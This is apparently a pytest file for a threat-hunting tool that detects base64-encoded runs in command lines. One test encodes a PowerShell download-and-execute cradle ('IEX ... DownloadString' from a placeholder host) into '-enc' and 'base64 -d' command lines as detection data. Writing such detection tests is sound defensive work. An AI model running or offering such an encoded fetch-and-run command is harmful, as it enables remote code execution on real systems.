import base64
import random

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from huntkit.analyze.encoded_runs import encoded_length


def length(text: str | None) -> int:
    return encoded_length(pl.Series([text], dtype=pl.String))[0]


@pytest.mark.parametrize(
    "command",
    [
        "python /opt/example/omsconfig/Scripts/PerformRequiredConfigurationChecks.py",
        "/usr/lib/x86/gcc/Common7/Tools/Bin32/CompilerDriverOfTheUsualSort",
        "run UserPII_da39a3ee5e6b4b0d3255bfef95601890afd80709.exe",
        "run E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
        "get da39a3ee5e6b4b0d3255bfef95601890afd80709/Setup",
        "curl https://cdn.example/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ2N18Q7Y=",
        "app --enable=singleSignOnOSForPrimaryAccountIsSharedEverywhere",
        "app " + "A" * 80,
        "app " + "1234567890" * 8,
        "",
        None,
    ],
)
def test_hashes_paths_names_and_urls_are_not_base64(command):
    assert length(command) == 0


def test_encoded_text_and_bytes_are_whatever_stands_around():
    script = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"
    wide = base64.b64encode(script.encode("utf-16-le")).decode()
    assert length(f"powershell -nop -enc {wide}") == len(wide)
    plain = base64.b64encode(script.encode()).decode()
    assert length(f"echo {plain}|base64 -d") == len(plain)
    assert length(f"--data={plain}") == len(plain)


def test_nearly_all_runs_of_random_bytes_are_seen_and_no_hash_is():
    """Of 48 letters, by chance one of some hundred has few changes of case."""
    rng = random.Random(7)
    blocks = [rng.randbytes(36) for _ in range(500)]
    seen = encoded_length(pl.Series([base64.b64encode(block).decode() for block in blocks]))
    assert (seen == 48).sum() >= 480
    assert encoded_length(pl.Series([block.hex() for block in blocks])).sum() == 0


@given(st.lists(st.one_of(st.none(), st.text("aB1/+= -:.", max_size=90)), max_size=6))
def test_each_text_has_a_length_of_its_own(texts):
    found = encoded_length(pl.Series(texts, dtype=pl.String)).to_list()
    assert found == [length(text) for text in texts]
    assert all(n == 0 or 40 <= n <= len(text or "") for n, text in zip(found, texts, strict=True))
